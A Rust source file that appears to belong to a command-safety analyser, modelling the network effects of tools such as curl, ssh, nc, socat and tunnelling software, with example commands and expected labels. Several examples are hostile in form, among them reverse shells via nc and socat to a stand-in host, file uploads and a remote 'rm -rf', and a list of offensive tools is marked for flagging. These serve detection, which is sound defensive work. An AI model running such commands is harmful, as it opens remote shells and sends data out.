//! Programs that talk to other hosts.

use crate::effect::{Change, Purpose, Reach};
use crate::marks::Mark;
use crate::model::*;

const REMOTE: Use = &[Does::Connects(Purpose::Remote)];
const LISTEN: Use = &[mark(Mark::Tunnel)];
const SSH_OPTION: Use = &[Does::Assigns("ssh:", Reach::Command)];
const COPIES: Operands =
    sources_and_target(&[Does::Transfers(Purpose::Fetch)], &[Does::Transfers(Purpose::Send)]);

pub(crate) const MODELS: &[Model] = &[
    // A module of zsh.
    model(&["ztcp", "zsocket"])
        .operands(leading(&[&[Does::Connects(Purpose::Tunnel)]], &[]))
        .examples(&[("ztcp h.example 9001", &["tunnels h.example"])]),
    model(&["curl", "curlie"])
        .flags(&[
            takes(&["--data", "-d", "--data-ascii", "--data-binary", "--json"], &[Does::AtFile])
                .operands(each(&[SENDS])),
            takes(&["--data-urlencode"], &[Does::FieldFile]).operands(each(&[SENDS])),
            takes(&["--data-raw", "--form-string", "--url-query"], &[]).operands(each(&[SENDS])),
            takes(&["--form", "-F"], &[Does::FieldFile]).operands(each(&[SENDS])),
            takes(&["--upload-file", "-T"], &[READS]).operands(each(&[SENDS])),
            // The data becomes a part of the URL.
            switch(&["--get", "-G"], &[]).operands(each(&[FETCHES])),
            takes(&["--config", "-K"], &[READS, Does::Hides]),
            takes(
                &[
                    "--output",
                    "-o",
                    "--dump-header",
                    "-D",
                    "--cookie-jar",
                    "-c",
                    "--trace",
                    "--trace-ascii",
                    "--stderr",
                    "--etag-save",
                    "--hsts",
                    "--alt-svc",
                    "--libcurl",
                ],
                &[WRITES],
            ),
            takes(&["--output-dir"], &[MAKES]),
            takes(
                &[
                    "--cacert",
                    "--capath",
                    "--netrc-file",
                    "--etag-compare",
                    "--pubkey",
                    "--crlfile",
                ],
                &[READS],
            ),
            // Keys that prove who asks; they are not sent.
            takes(&["--cert", "-E", "--key", "--proxy-cert", "--proxy-key"], &[]),
            takes(&["--header", "-H", "--proxy-header"], &[Does::AtFile]),
            takes(&["--engine"], &[Does::Hides]),
            takes(&["--cookie", "-b"], &[Does::FieldFile]),
            takes(&["--variable"], &[Does::FieldFile]).operands(each(&[SENDS])),
            takes(&["--expand-data", "--expand-json"], &[]).operands(each(&[SENDS])),
            takes(&["--expand-url"], &[SENDS]),
            takes(&["--expand-header", "--expand-output"], &[]),
            takes(&["--url"], &[FETCHES]),
            takes(
                &[
                    "--proxy",
                    "-x",
                    "--preproxy",
                    "--socks5",
                    "--socks5-hostname",
                    "--socks4",
                    "--socks4a",
                    "--doh-url",
                ],
                &[SENDS],
            ),
            takes(&["--unix-socket", "--abstract-unix-socket"], &[WRITES]),
            // Another host than the URL says.
            takes(&["--resolve", "--connect-to"], &[]),
            takes(&["--request", "-X"], &[Does::MarksIf(&["DELETE"], Mark::RemoteDelete)]),
            takes(
                &[
                    "--user",
                    "-u",
                    "--user-agent",
                    "-A",
                    "--referer",
                    "-e",
                    "--max-time",
                    "-m",
                    "--connect-timeout",
                    "--retry",
                    "--retry-delay",
                    "--retry-max-time",
                    "--write-out",
                    "-w",
                    "--limit-rate",
                    "--range",
                    "-r",
                    "--interface",
                    "--max-redirs",
                    "--ciphers",
                    "--oauth2-bearer",
                    "--continue-at",
                    "-C",
                    "--time-cond",
                    "-z",
                    "--aws-sigv4",
                    "--proto",
                    "--tls-max",
                    "--dns-servers",
                    "--quote",
                    "-Q",
                    "--noproxy",
                    "--keepalive-time",
                    "--speed-limit",
                    "-Y",
                    "--speed-time",
                    "-y",
                    "--max-filesize",
                    "--parallel-max",
                    "--rate",
                    "--proxy-user",
                    "-U",
                ],
                &[],
            ),
            switch(
                &["--remote-name", "-O", "--remote-name-all"],
                &[Does::WritesFile(".", Change::Folder)],
            ),
            switch(&["--location", "-L"], &[]),
            switch(&["--insecure", "-k"], &[]),
        ])
        .operands(each(&[FETCHES]))
        .examples(&[
            ("curl -s https://h.example/x", &["fetches h.example:443"]),
            ("curl -d @a https://h.example", &["reads a", "sends h.example:443"]),
            ("curl -da=b https://h.example", &["sends h.example:443"]),
            ("curl -F f=@a https://h.example", &["reads a", "sends h.example:443"]),
            ("curl -T a https://h.example", &["reads a", "sends h.example:443"]),
            ("curl -fsSLo out https://h.example/x", &["fetches h.example:443", "writes out"]),
            ("curl -K a", &["reads a", "opaque language"]),
        ]),
    model(&["wget", "wget2"])
        .flags(&[
            takes(&["--post-file", "--body-file"], &[READS]).operands(each(&[SENDS])),
            takes(&["--post-data", "--body-data"], &[]).operands(each(&[SENDS])),
            takes(
                &[
                    "--output-document",
                    "-O",
                    "--output-file",
                    "-o",
                    "--append-output",
                    "-a",
                    "--save-cookies",
                    "--warc-file",
                ],
                &[WRITES],
            ),
            takes(
                &[
                    "--input-file",
                    "-i",
                    "--load-cookies",
                    "--certificate",
                    "--private-key",
                    "--ca-certificate",
                    "--config",
                ],
                &[READS],
            ),
            takes(&["--directory-prefix", "-P"], &[MAKES]),
            takes(&["--use-askpass"], &[PROGRAM]),
            takes(&["--execute", "-e"], &[Does::Hides]),
            takes(
                &[
                    "--header",
                    "--user",
                    "--password",
                    "--user-agent",
                    "-U",
                    "--tries",
                    "-t",
                    "--timeout",
                    "-T",
                    "--level",
                    "-l",
                    "--accept",
                    "-A",
                    "--reject",
                    "-R",
                    "--method",
                    "--limit-rate",
                    "--wait",
                    "-w",
                    "--referer",
                    "--cut-dirs",
                    "--domains",
                    "-D",
                    "--include-directories",
                    "-I",
                    "--exclude-directories",
                    "-X",
                    "--quota",
                    "-Q",
                ],
                &[],
            ),
            switch(&["--spider"], &[]),
        ])
        .operands(each(&[FETCHES]))
        .examples(&[
            ("wget -qO- https://h.example", &["fetches h.example:443"]),
            ("wget --post-file=a https://h.example", &["reads a", "sends h.example:443"]),
            ("wget -O out http://h.example", &["fetches h.example:80", "writes out"]),
        ]),
    model(&["http", "https", "xh", "xhs"])
        .flags(&[
            takes(&["--output", "-o"], &[WRITES]),
            takes(&["--session", "--session-read-only", "--cert", "--cert-key", "--verify"], &[]),
            takes(
                &[
                    "--auth",
                    "-a",
                    "--auth-type",
                    "-A",
                    "--timeout",
                    "--print",
                    "-p",
                    "--style",
                    "-s",
                    "--pretty",
                ],
                &[],
            ),
            takes(&["--proxy"], &[]),
            takes(&["--raw"], &[]),
            joined(&["GET"], &[]),
            joined(&["HEAD", "OPTIONS"], &[]),
            joined(&["POST", "PUT", "PATCH"], &[])
                .operands(leading(&[&[SENDS]], &[Does::FieldFile, Does::AtFile])),
            joined(&["post", "put", "patch"], &[])
                .operands(leading(&[&[SENDS]], &[Does::FieldFile, Does::AtFile])),
            joined(&["get", "head"], &[]),
            joined(&["DELETE", "delete"], &[mark(Mark::RemoteDelete)])
                .operands(leading(&[&[SENDS]], &[])),
        ])
        .operands(leading(&[&[FETCHES]], &[Does::FieldFile, Does::AtFile]))
        .examples(&[
            ("http GET h.example/x", &["fetches h.example"]),
            ("http POST h.example f@a", &["sends h.example", "reads a"]),
        ]),
    model(&["aria2c", "axel", "youtube-dl", "yt-dlp", "GET", "HEAD", "gallery-dl", "httrack"])
        .flags(&[
            takes(&["--out", "-o", "--output", "--cookies", "--log", "-l"], &[WRITES]),
            takes(&["--dir", "-d", "-P", "--paths"], &[MAKES]),
            takes(&["--input-file", "-i", "--batch-file", "-a", "--config-location"], &[READS]),
            takes(
                &[
                    "--exec",
                    "--on-download-complete",
                    "--on-download-start",
                    "--on-download-error",
                    "--on-download-pause",
                    "--on-download-stop",
                    "--on-bt-download-complete",
                    "--external-downloader",
                    "--downloader",
                ],
                &[SHELL],
            ),
            takes(
                &[
                    "--split",
                    "-s",
                    "--max-connection-per-server",
                    "-x",
                    "--format",
                    "-f",
                    "-n",
                    "--header",
                    "--user-agent",
                    "-U",
                ],
                &[],
            ),
        ])
        .operands(each(&[FETCHES]))
        .examples(&[
            ("aria2c https://h.example/x", &["fetches h.example:443"]),
            (
                "yt-dlp --exec 'touch x' https://h.example",
                &["fetches h.example:443", "runs touch x", "changes x"],
            ),
        ]),
    // They show files, too.
    model(&["lynx", "w3m", "links", "links2", "elinks", "browsh", "retawq", "netrik"])
        .style(Style::SingleDash)
        .flags(&[
            switch(&["-dump", "-source", "-listonly", "-nolist", "-no-numbering"], &[]),
            takes(&["-cfg", "-lss", "-cmd_script", "-config-file", "-config"], &[READS]),
            takes(&["-o", "-cmd_log"], &[]),
        ])
        .operands(each(&[Does::Repository(Purpose::Fetch)]))
        .examples(&[
            ("lynx -dump https://h.example/x", &["fetches h.example:443"]),
            ("w3m -dump ./a", &["reads-tree a"]),
        ]),
    model(&["lwp-download", "lwp-mirror"])
        .operands(leading(&[&[FETCHES], &[WRITES]], &[]))
        .examples(&[("lwp-download http://h.example/x a", &["fetches h.example:80", "writes a"])]),
    model(&["ssh", "mosh", "slogin", "dbclient"])
        .style(Style::Posix)
        .flags(&[
            takes(&["-o"], SSH_OPTION),
            takes(&["-F"], &[READS, Does::Hides]),
            takes(&["-i"], &[LISTS]),
            takes(&["-L", "-R", "-D"], &[Does::Forward]),
            takes(&["-w"], LISTEN),
            takes(&["-W"], &[Does::Connects(Purpose::Tunnel)]),
            takes(&["-J"], REMOTE),
            takes(&["-E"], &[WRITES]),
            takes(&["-S"], &[]),
            takes(&["-B", "-b", "-c", "-e", "-l", "-m", "-O", "-p", "-Q"], &[]),
            takes(&["-I"], &[Does::Hides]),
            takes(&["--ssh"], &[SHELL]),
        ])
        .operands(leading(&[REMOTE], &[Does::RemoteShell]))
        .examples(&[
            ("ssh h.example", &["remote h.example"]),
            ("ssh -p 2222 dev@h.example", &["remote h.example"]),
            ("ssh h.example rm -rf x", &["remote h.example", "runs rm -rf x", "deletes-tree x"]),
        ]),
    model(&["scp", "pscp"])
        .flags(&[
            takes(&["-o"], SSH_OPTION),
            takes(&["-S"], &[PROGRAM]),
            takes(&["-D"], &[PROGRAM]),
            takes(&["-F"], &[READS, Does::Hides]),
            takes(&["-i"], &[LISTS]),
            takes(&["-J"], REMOTE),
            takes(&["-c", "-l", "-P", "-X"], &[]),
        ])
        .operands(COPIES)
        .examples(&[
            ("scp a h.example:b", &["reads-tree a", "sends h.example:22"]),
            ("scp h.example:a b", &["fetches h.example:22", "makes b"]),
            ("scp -S ./x a b", &["reads-tree a", "makes b", "runs x"]),
        ]),
    model(&["sftp"])
        .flags(&[
            takes(&["-o"], SSH_OPTION),
            takes(&["-S", "-D", "-s"], &[PROGRAM]),
            takes(&["-b"], &[READS, Does::Hides]),
            takes(&["-F"], &[READS, Does::Hides]),
            takes(&["-i"], &[LISTS]),
            takes(&["-J"], REMOTE),
            takes(&["-B", "-c", "-l", "-P", "-R", "-X"], &[]),
        ])
        .operands(leading(&[&[SENDS]], &[]))
        .examples(&[("sftp h.example", &["sends h.example"])]),
    model(&["sshpass"])
        .style(Style::Posix)
        .flags(&[takes(&["-p", "-d", "-P"], &[]), takes(&["-f"], &[READS])])
        .operands(leading(&[&[COMMAND]], &[]))
        .examples(&[("sshpass -f pw cat a", &["reads pw", "runs cat a", "reads a"])]),
    model(&["ssh-copy-id"])
        .flags(&[takes(&["-i"], &[READS]), takes(&["-o"], SSH_OPTION), takes(&["-p", "-F"], &[])])
        .operands(each(REMOTE))
        .always(&[
            mark(Mark::Privilege),
            Does::WritesFile("~/.ssh/authorized_keys", Change::Append),
        ])
        .examples(&[(
            "ssh-copy-id h.example",
            &["remote h.example", "appends ~/.ssh/authorized_keys", "marks privilege"],
        )]),
    model(&["sshfs"])
        .flags(&[takes(&["-o"], SSH_OPTION), takes(&["-p", "-F"], &[])])
        .operands(leading(&[&[Does::Transfers(Purpose::Fetch)], &[MAKES]], &[])),
    model(&["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd"])
        .flags(&[
            takes(&["--exec", "-e"], &[PROGRAM, mark(Mark::Tunnel)]),
            takes(&["--sh-exec", "-c"], &[SHELL, mark(Mark::Tunnel)]),
            takes(&["--lua-exec"], &[Does::Script(Language::Lua), mark(Mark::Tunnel)]),
            switch(&["--listen", "-l"], &[Does::ConnectsTo("0.0.0.0", Purpose::Listen)])
                .operands(each(&[])),
            switch(&["-z"], &[]).operands(leading(&[&[FETCHES]], &[])),
            takes(&["--proxy", "-x", "--proxy-type", "-X"], &[]),
            takes(
                &[
                    "--wait",
                    "-w",
                    "--source-port",
                    "-p",
                    "--source",
                    "-s",
                    "-q",
                    "--idle-timeout",
                    "-i",
                    "-I",
                    "-O",
                    "-T",
                    "-V",
                    "-M",
                    "-m",
                    "-P",
                ],
                &[],
            ),
            takes(&["--output", "-o", "--hex-dump"], &[WRITES]),
        ])
        .operands(leading(&[&[SENDS]], &[]))
        .examples(&[
            ("nc -z h.example 80", &["fetches h.example"]),
            ("nc -e /bin/sh h.example 4444", &["sends h.example", "runs sh", "marks tunnel"]),
        ]),
    model(&["socat", "socat1"])
        .style(Style::Posix)
        .flags(&[takes(&["-b", "-t", "-T", "-lf", "-lp", "-W", "-L"], &[])])
        .examples(&[
            ("socat - UNIX-CONNECT:/tmp/a.sock", &[]),
            ("socat -u FILE:a STDOUT", &["reads a"]),
            ("socat TCP-LISTEN:80,bind=127.0.0.1 TCP:localhost:81", &[]),
            ("socat - TCP:h.example:80", &["sends h.example:80"]),
            (
                "socat TCP:h.example:80 EXEC:sh",
                &["sends h.example:80", "runs sh", "opaque code", "marks tunnel"],
            ),
            ("socat TCP-LISTEN:80,fork TCP:localhost:81", &["marks tunnel"]),
            ("socat - UNIX:/var/run/docker.sock", &["marks host-access"]),
        ]),
    model(&["telnet"])
        .operands(leading(&[&[SENDS]], &[]))
        .examples(&[("telnet h.example 80", &["sends h.example"])]),
    model(&["ftp", "lftp", "tnftp", "ncftp", "ncftpput", "ncftpget"])
        .flags(&[
            takes(&["-u"], &[SENDS]),
            takes(&["-c", "-e"], &[Does::Hides]),
            takes(&["-f", "-N"], &[READS, Does::Hides]),
            takes(&["-p", "-P", "-o"], &[]),
        ])
        .operands(leading(&[&[SENDS]], &[READS]))
        .examples(&[("ftp h.example", &["sends h.example"])]),
    model(&["tftp", "curlftpfs", "smbclient", "rpcclient", "smbget"])
        .flags(&[
            takes(&["-c", "--command"], &[Does::Hides]),
            takes(&["-U", "-W", "-p", "-m", "-A"], &[]),
        ])
        .operands(leading(&[&[SENDS]], &[READS])),
    model(&["dig", "host", "nslookup", "drill", "kdig", "dog", "doggo", "delv", "avahi-resolve"])
        .style(Style::SingleDash)
        .flags(&[
            takes(&["-f"], &[READS]),
            takes(&["-t", "-q", "-p", "-b", "-k", "-y", "-c"], &[]),
            joined(&["@"], &[FETCHES]),
            joined(&["+"], &[]),
        ])
        .operands(leading(&[&[FETCHES]], &[]))
        .examples(&[("dig +short h.example", &["fetches h.example"])]),
    model(&["resolvectl", "systemd-resolve"])
        .subs(&[
            model(&["query", "service", "openpgp", "tlsa"]).operands(each(&[FETCHES])),
            model(&["dns", "domain", "dnssec", "dnsovertls", "default-route", "llmnr", "revert"])
                .operands(leading(&[&[]], &[mark(Mark::Network)])),
            model(&["status", "statistics", "flush-caches", "monitor"]),
        ])
        .examples(&[
            ("resolvectl status", &[]),
            ("resolvectl dns eth0", &[]),
            ("resolvectl dns eth0 192.0.2.1", &["marks network"]),
        ]),
    model(&["wg"])
        .subs(&[
            model(&["showconf"]).always(&[mark(Mark::Credentials)]),
            model(&["show"]).operands(leading(
                &[&[Does::MarksIf(&["dump"], Mark::Credentials)]],
                &[Does::MarksIf(&["private-key", "preshared-keys", "dump"], Mark::Credentials)],
            )),
            model(&["set", "setconf", "addconf", "syncconf"]).always(&[mark(Mark::Network)]),
            model(&["genkey", "genpsk", "pubkey"]),
        ])
        .examples(&[
            ("wg showconf wg0", &["marks credentials"]),
            ("wg show wg0 private-key", &["marks credentials"]),
            ("wg show", &[]),
        ]),
    model(&["ssh-import-id", "ssh-import-id-gh", "ssh-import-id-lp"])
        .always(&[Does::WritesFile("~/.ssh/authorized_keys", Change::Append)])
        .examples(&[("ssh-import-id gh:x", &["appends ~/.ssh/authorized_keys"])]),
    model(&[
        "ping",
        "ping6",
        "fping",
        "hping3",
        "arping",
        "traceroute",
        "tracepath",
        "mtr",
        "traceroute6",
        "tcptraceroute",
        "nping",
    ])
    .flags(&[
        takes(&["-c", "-i", "-w", "-W", "-s", "-t", "-I", "-m", "-q", "-p", "-M"], &[]),
        // A list of hosts: `fping`, `mtr`.
        takes(&["-f", "-F", "--file", "--filename"], &[READS]),
        // What the packets carry.
        takes(&["-E", "--sign", "-e", "--data-string"], &[READS]).operands(each(&[SENDS])),
        takes(&["-d"], &[]),
    ])
    .operands(each(&[FETCHES]))
    .examples(&[("ping -c 3 h.example", &["fetches h.example"]), ("mtr --raw -F a", &["reads a"])]),
    // Only a name with a host leaves the machine.
    model(&["finger"])
        .examples(&[("finger dev", &[]), ("finger x@h.example", &["sends h.example"])]),
    model(&["whois"])
        .flags(&[takes(&["--host", "-h"], &[SENDS]), takes(&["--port", "-p"], &[])])
        .operands(each(&[FETCHES]))
        .examples(&[("whois -h h.example x.example", &["sends h.example", "fetches x.example"])]),
    model(&["nmap", "masscan", "zmap", "rustscan"])
        .style(Style::SingleDash)
        .flags(&[
            takes(&["-oN", "-oX", "-oG", "-oA", "-oL", "-oJ"], &[WRITES]),
            takes(&["-iL", "--excludefile"], &[READS]),
            takes(&["--script"], &[Does::Extension]),
            takes(&["--source-port", "-g", "--script-args"], &[]),
            takes(
                &["-p", "--top-ports", "--exclude", "-T", "--max-rate", "--rate", "-e", "-S", "-D"],
                &[],
            ),
        ])
        .operands(each(&[FETCHES]))
        .examples(&[
            ("nmap -p 80 h.example", &["fetches h.example"]),
            ("nmap --script http-title h.example", &["fetches h.example"]),
            (
                "nmap --script ./a.nse h.example",
                &["reads a.nse", "opaque language", "fetches h.example"],
            ),
        ]),
    model(&["tcpdump", "tshark", "dumpcap", "ngrep", "wireshark"])
        .flags(&[
            takes(&["-z"], &[PROGRAM]),
            takes(&["-w"], &[WRITES]),
            takes(&["-r", "-F", "-V"], &[READS]),
            takes(
                &["-i", "-c", "-s", "-G", "-W", "-C", "-y", "-T", "-E", "-Z", "-f", "-Y", "-e"],
                &[],
            ),
        ])
        .always(&[mark(Mark::Spies)])
        .examples(&[("tcpdump -i lo -w f -z ./x", &["writes f", "runs x", "marks spies"])]),
    model(&[
        "ngrok",
        "cloudflared",
        "localtunnel",
        "lt",
        "bore",
        "frpc",
        "frps",
        "chisel",
        "gs-netcat",
        "iodine",
        "dnscat",
        "dnscat2",
        "tmate",
        "sshuttle",
        "pagekite",
        "inlets",
        "zrok",
        "rathole",
        "telebit",
        "serveo",
        "ligolo-agent",
        "pwncat",
        "dropbear",
        "telnetd",
        "x0vncserver",
        "x11vnc",
        "teleport",
        "wstunnel",
        "gost",
        "udptunnel",
        "ptunnel",
        "stunnel",
        "redsocks",
        "ttyd",
        "gotty",
        "wetty",
        "shellinaboxd",
        "sshd",
        "vncserver",
        "teamviewer",
        "anydesk",
        "rustdesk",
        "tor",
        "untun",
        "tunnelmole",
        "tmole",
        "pinggy",
        "pgrok",
        "tunnelto",
        "jprq",
        "portr",
        "holepunch",
        "hypertunnel",
        "expose",
        "sish",
        "boringproxy",
        "wireproxy",
        "nebula-tunnel",
        "reverse-ssh",
        "dns2tcpc",
        "gsocket",
    ])
    .flags(&[switch(&["--version", "--help"], &[])])
    .always(&[mark(Mark::Tunnel)])
    .examples(&[("ngrok http 3000", &["marks tunnel"])]),
    model(&["tailscale", "zerotier-cli", "netbird", "nebula"])
        .subs(&[
            model(&[
                "status",
                "ip",
                "version",
                "netcheck",
                "ping",
                "whois",
                "listnetworks",
                "info",
            ]),
            model(&[
                "up", "down", "set", "login", "logout", "ssh", "funnel", "serve", "file", "join",
                "leave",
            ])
            .always(&[mark(Mark::Tunnel)]),
        ])
        .examples(&[("tailscale status", &[]), ("tailscale up", &["marks tunnel"])]),
    model(&["openvpn3"])
        .subs(&[
            model(&["sessions-list", "session-stats", "configs-list", "log", "version", "help"]),
            model(&["session-start", "session-manage", "config-import"])
                .always(&[mark(Mark::Tunnel)]),
        ])
        .examples(&[
            ("openvpn3 sessions-list", &[]),
            ("openvpn3 session-start --config a", &["marks tunnel"]),
        ]),
    model(&["wg-quick", "openvpn", "openconnect", "vpnc", "ipsec", "strongswan", "pptp"])
        .flags(&[
            takes(&["--config"], &[Does::Recipe]),
            takes(
                &[
                    "--up",
                    "--down",
                    "--route-up",
                    "--route-pre-down",
                    "--ipchange",
                    "--client-connect",
                    "--client-disconnect",
                    "--learn-address",
                    "--tls-verify",
                    "--auth-user-pass-verify",
                    "--script",
                ],
                &[SHELL],
            ),
            takes(&["--plugin"], &[Does::Hides]),
        ])
        .operands(each(&[]))
        .always(&[mark(Mark::Tunnel)])
        .examples(&[("wg-quick up wg0", &["reads wg0", "marks tunnel"])]),
    model(&[
        "mail", "mailx", "s-nail", "mutt", "neomutt", "sendmail", "msmtp", "ssmtp", "exim", "exim4",
    ])
    .style(Style::Posix)
    .flags(&[
        takes(&["-a", "--attach", "-A", "--attachment", "-F"], &[READS]),
        takes(
            &[
                "-s",
                "-c",
                "-b",
                "-r",
                "-S",
                "-f",
                "--server",
                "--subject",
                "--cc",
                "--bcc",
                "--from",
            ],
            &[],
        ),
    ])
    .operands(each(&[SENDS]))
    .examples(&[("mail -s x a@h.example", &["sends h.example"])]),
    model(&["swaks"])
        .style(Style::SingleDash)
        .flags(&[
            takes(&["--server", "-s"], &[SENDS]),
            takes(&["--attach", "--body", "--data", "-d", "--header"], &[Does::AtFile]),
            takes(&["--config"], &[READS]),
            takes(
                &[
                    "--to",
                    "-t",
                    "--from",
                    "-f",
                    "--port",
                    "-p",
                    "--auth-user",
                    "-au",
                    "--auth-password",
                    "-ap",
                    "--helo",
                    "--ehlo",
                    "-h",
                    "--add-header",
                    "--attach-name",
                    "--attach-type",
                    "--cc",
                    "--bcc",
                    "--h-Subject",
                ],
                &[],
            ),
        ])
        .examples(&[
            ("swaks --server localhost:1025 --to a@h.example --body x", &["sends localhost:1025"]),
            ("swaks --to a@h.example --attach @b", &["reads b", "sends h.example"]),
        ]),
    model(&["git-receive-pack", "git-upload-pack"]).operands(each(&[READS_TREE])),
    model(&["grpcurl", "websocat", "wscat", "evans"])
        .flags(&[
            takes(&["-d"], &[Does::AtFile]),
            takes(&["-proto", "-protoset", "-cert", "-key", "-cacert"], &[READS]),
            takes(&["-H", "-import-path", "-max-time", "-x", "--execute", "-w", "--wait"], &[]),
            takes(&["-c", "--connect"], &[SENDS]),
            takes(&["--exec", "--sh-c"], &[SHELL]),
        ])
        .operands(leading(&[&[SENDS]], &[]))
        .examples(&[("wscat -c ws://localhost:4000/x -x hi", &["sends localhost:4000"])]),
    model(&[
        "ab",
        "wrk",
        "wrk2",
        "hey",
        "oha",
        "bombardier",
        "vegeta",
        "siege",
        "k6",
        "autocannon",
        "locust",
    ])
    .flags(&[
        takes(&["-n", "-c", "-t", "-d", "-z", "-q", "-H", "-m", "-T", "-r"], &[]),
        takes(&["-p", "-D", "-u", "-s", "-b"], &[READS]),
    ])
    .operands(each(&[])),
    model(&[
        "whatweb",
        "nikto",
        "sqlmap",
        "gobuster",
        "hydra",
        "medusa",
        "msfconsole",
        "msfvenom",
        "responder",
        "john",
        "hashcat",
        "mimikatz",
        "aircrack-ng",
        "crackmapexec",
        "netexec",
        "impacket-secretsdump",
        "bettercap",
        "ettercap",
    ])
    .always(&[mark(Mark::Guard), Does::Hides]),
    model(&["rclone"])
        .flags(&[
            takes(&["--config", "--files-from", "--filter-from", "--exclude-from"], &[READS]),
            takes(&["--exclude", "--include", "--transfers", "--bwlimit"], &[]),
            takes(&["--log-file"], &[WRITES]),
            switch(&["--dry-run", "-n"], &[]),
        ])
        .subs(&[
            model(&["copy", "sync", "move", "copyto", "moveto", "bisync"]).operands(COPIES),
            model(&["delete", "purge", "deletefile", "cleanup"])
                .operands(each(&[]))
                .always(&[mark(Mark::Infrastructure)]),
            model(&[
                "ls",
                "lsd",
                "lsl",
                "lsf",
                "lsjson",
                "size",
                "check",
                "tree",
                "about",
                "version",
                "listremotes",
            ]),
            model(&["cat"]).operands(each(&[Does::Transfers(Purpose::Fetch)])),
            model(&["serve", "mount"]).always(&[mark(Mark::Tunnel)]),
            model(&["config"]).always(&[mark(Mark::Credentials)]),
        ])
        .examples(&[
            ("rclone ls remote:x", &[]),
            ("rclone purge remote:x", &["marks infrastructure"]),
        ]),
    // Jobs and traps for other hosts, files for everyone.
    model(&["pastebinit", "0x0", "gist-paste"])
        .flags(&[takes(&["-i"], &[READS]), takes(&["-a", "-b", "-f", "-t"], &[])])
        .operands(each(&[READS]))
        .always(&[Does::ConnectsTo("pastebin.com", Purpose::Send)])
        .examples(&[("pastebinit a", &["reads a", "sends pastebin.com:443"])]),
    model(&["snmptrap", "snmpinform", "snmpset"])
        .flags(&[takes(&["-v", "-c", "-u", "-l", "-a", "-A", "-x", "-X", "-m"], &[])])
        .operands(leading(&[&[SENDS]], &[]))
        .examples(&[("snmptrap -v 2c -c public h.example x", &["sends h.example"])]),
    model(&["kcat", "kafkacat"])
        .style(Style::Posix)
        .flags(&[
            takes(&["-t", "-p", "-o", "-K", "-D", "-X", "-f", "-c", "-G", "-k", "-H"], &[]),
            takes(&["-b"], &[SENDS]),
            takes(&["-F"], &[READS]),
        ])
        .operands(each(&[READS]))
        .examples(&[("kcat -P -b h.example:9092 -t x a", &["sends h.example:9092", "reads a"])]),
    model(&["wormhole", "croc", "magic-wormhole", "transfer", "send", "ffsend"])
        .subs(&[
            model(&["send", "upload", "tx"])
                .operands(each(&[READS_TREE]))
                .always(&[Does::ConnectsTo("relay", Purpose::Send)]),
            model(&["receive", "rx", "recv", "download"]),
        ])
        .operands(each(&[READS_TREE])),
];
